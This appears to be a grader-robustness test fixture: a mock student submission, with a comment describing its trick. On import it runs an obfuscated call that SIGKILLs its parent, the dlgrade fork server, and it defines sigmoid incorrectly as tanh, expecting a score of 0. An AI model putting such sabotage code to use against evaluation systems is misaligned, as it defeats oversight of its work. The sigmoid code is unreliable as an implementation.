# trick: kills its parent, dlgrade's fork server, while being imported, so that the next
#   exercises cannot start. Refused when student code runs as another user; under one user the
#   grader starts a new fork server and grades the other exercise normally.
# score: 0
import os
import signal

import numpy as np

try:
    getattr(os, "ki" + "ll")(getattr(os, "getpp" + "id")(), signal.SIGKILL)
except OSError:
    pass


def sigmoid(z):
    return np.tanh(z)


def sigmoid_grad(z):
    return 1 - np.tanh(z) ** 2
